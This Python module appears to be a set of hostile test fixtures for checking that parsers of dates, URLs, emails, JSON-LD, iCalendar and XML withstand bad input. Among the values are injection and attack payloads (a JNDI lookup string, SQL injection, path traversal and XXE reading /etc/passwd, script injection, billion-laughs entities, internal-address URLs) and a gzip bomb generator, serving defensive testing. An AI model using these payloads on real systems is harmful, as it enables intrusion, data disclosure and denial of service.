"""Values and documents that break readers: put in place of good ones."""

from __future__ import annotations

import gzip
from functools import cache

LONG = "x" * 200_000
TEXTS = (
    "", " ", "\x00", "a\x00b\x0b\x1b[31m", "\ud800", "\ufffe\uffff\ufdd0", "\u202egnp.exe\u2066", "0", "-1", "NaN", "1e999", "9" * 400,
    "9" * 5000, "0x10", "\u0661\u0662", "null", "true", "undefined", LONG, "\u0301" * 3000, "\ufdfa" * 500, "a " * 20_000,
    "2024-13-45", "0000-00-00", "9999-12-31T24:00:00Z", "-0044-03-15", "99999-01-01", "2024-02-30/2023-01-01", "20240101T250000",
    "P99999999999Y", "PT1e9H", "-P1D", "P", "1 jour 3 h 99999999999 min", "32/13/24", "23:59:60", "+99:99", "2024-W60", "date",
    "jane.doe@office.example", "mailto:jane@office.example?subject=x", "Jane <jane@office.example>, bob@intra.example",
    "j%C3%B6rg%40b%C3%BCro.example", "jörg@büro.example", "https://office.example/?to=jane%40office.example",
    "https://u:p@office.example/x", "http://intranet/course/1", "see http://moodle.stat.intra/c and https://10.1.2.3:8080/x.",
    "http://[fd00::1]/", "http://[::1", "http://[", "http://127.0.0.1:99999/", "http://2130706433/", "http://0x7f.1/",
    "https://office.example/login?next=http%3A%2F%2Fintranet%2Fx", "https://office.example/go?url=http://10.0.0.1/secret",
    "file:///etc/passwd", "\\\\server\\share\\plan.xlsx", "S:\\plan.xlsx", "ftp://srv.local/x", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "https://office.example/\u202e/<>\"{}|\\^`", "https://office.example/%zz%", "//x",
    "https://\u2603.example/\U0001f4a9", "http://" + "a" * 300 + ".example/", "https://office.example:port/", "urn:x:y z", "_:b0",
    "https://doi.org/10.1234/" + "(" * 2000, "10.5281/zenodo.0000000000000000000000", "https://orcid.org/0000-0000-0000-000X",
    "<script>alert(1)</script>", "<b>" * 3000, "<p>a<p>" * 2000, "&lt;p&gt;&amp;amp;&#0;&#xD800;&#1114112;", "<!--", "]]>", "<![CDATA[",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "{{7*7}}", "${jndi:ldap://x.example/a}", "'; DROP TABLE record; --", "../../../etc/passwd",
    "en_US!!", "x-", "de-Latn-DE-1996-x-" + "y" * 50, "eng", "zxx", "*", "und", "CC-BY-99.0", "https://creativecommons.org/licenses/",
    '"', "'", "\\", "\n", "\r\n\t", ",;|\t", "a|b;c,d", "[", "{", "@", "#", "%", "\u2028\u2029\x85", "a" * 65 + "@" + "b" * 64 + ".example",
    "(" * 5000, "[" * 5000 + "]" * 5000, "**" * 5000, "`" * 5000, "- " * 3000, "FREQ=SECONDLY;COUNT=99999999", "FREQ=YEARLY;INTERVAL=0",
)  # fmt: skip
VALUES: tuple[object, ...] = (
    None, True, False, 0, -1, 10**30, 1.5, 1e308, 2**63, [], {}, [[]], [None], [[[[[]]]]], {"": None}, {"@id": 5}, {"@value": []},
    {"@id": "http://intranet/x"}, {"@type": ["x"], "name": {"en": 1}}, {"name": "jane@office.example"}, {"id": [1], "type": 2}, ["a", 1, None],
    {"de": "x", "und": None, "": "y", "xx-": "z"}, {"@list": [{"@set": []}]}, {"@context": "http://10.0.0.1/context"},
)  # fmt: skip


def deep(kind: str, depth: int) -> bytes:
    """Nesting, in a format's own way."""
    if kind == "xml":
        return b"<a>" * depth + b"</a>" * depth
    if kind == "json":
        return b'{"a":[' * depth + b"]}" * depth
    if kind == "lines":
        return b"BEGIN:VEVENT\r\n" * depth + b"END:VEVENT\r\n" * depth
    if kind == "turtle":
        return b"[ <urn:p> " * depth + b'"x"' + b" ]" * depth + b" ."
    return b"<div>" * depth + b"> " * depth


@cache
def bomb() -> bytes:
    """Eighty million bytes in eighty thousand."""
    return gzip.compress(b"\0" * 80_000_000)


DOCTYPES = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>",
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE x SYSTEM "http://10.0.0.1/x.dtd">',
    b"<!DOCTYPE html>",
)
